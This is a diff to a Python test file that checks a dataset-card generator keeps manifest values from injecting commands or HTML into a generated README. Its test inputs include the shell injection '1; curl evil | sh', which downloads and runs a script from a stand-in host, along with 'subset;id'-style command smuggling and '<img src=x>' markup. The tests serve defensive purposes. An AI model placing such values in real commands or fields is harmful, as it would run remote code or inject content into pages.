@@ -26,11 +26,12 @@ from synth.recipe.load import load_recipe
 from synth.shard.accounts import AssetEntry, SubjectEntry
 from synth.shard.dataset import open_dataset
 from synth.shard.header import recipe_sha256
-from synth.shard.manifest import write_manifest
+from synth.shard.manifest import HeadPackEntry, write_manifest
 from synth.shard.read_manifest import read_manifest
 from synth.shard.verify import verify_dataset
 from synth.share.derive import split, subset
 from synth.share.merge import merge
+from synth.share.provenance import Step, origin_of, write_manifest_with_steps
 from synth.share.source import open_source
 from synth.view.contact_sheet import ContactSheet
 
@@ -283,6 +284,33 @@ def test_texts_of_strangers_do_nothing_in_the_page(tmp_path: Path, make: Any):
         assert not [tag for tag in ("<script", "<img", "<b>") if tag in body]
         assert "](http://evil)" not in body.replace("\\](http", "")
     assert front(tmp_path / "in")["license"] == "other"
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        {"operation": "subset", "options": {"where": "id < 3\n```\n<img src=x>"}},
+        {"operation": "subset", "options": {"where": "`id`"}},
+        {"operation": "subset;id", "options": {}},
+        {"operation": "subset", "options": {"where x;id": "1"}},
+    ],
+)
+def test_a_manifest_puts_no_commands_of_its_own_into_the_page(tiny: Path, step: dict[str, Any]):
+    manifest = replace(read_manifest(tiny), versions={"synth-heads": "1; curl evil | sh\n```"})
+    one = Step(**step, sources=(origin_of(manifest),), dataset_id="some-0123456789ab")
+    write_manifest_with_steps(tiny, manifest, (one,))
+    write_card(tiny, parquet=False)
+    section = readme(tiny).split("## How it was made")[1].split("\n## ")[0]
+    assert "no command of this program" in section
+    assert not [text for text in ("```", "<img", "pip install", "synth render") if text in section]
+
+
+def test_a_version_that_is_none_is_no_word_of_a_command(tiny: Path):
+    heads = (HeadPackEntry("pack", "a`<img src=x>", "CC0-1.0"),)
+    write_manifest(tiny, replace(read_manifest(tiny), versions={"synth-heads": "1; curl evil"}, heads=heads))
+    write_card(tiny, parquet=False)
+    assert "\npip install synth-heads\n" in readme(tiny)
+    assert "<img" not in readme(tiny)
 
 
 # --- how it was made
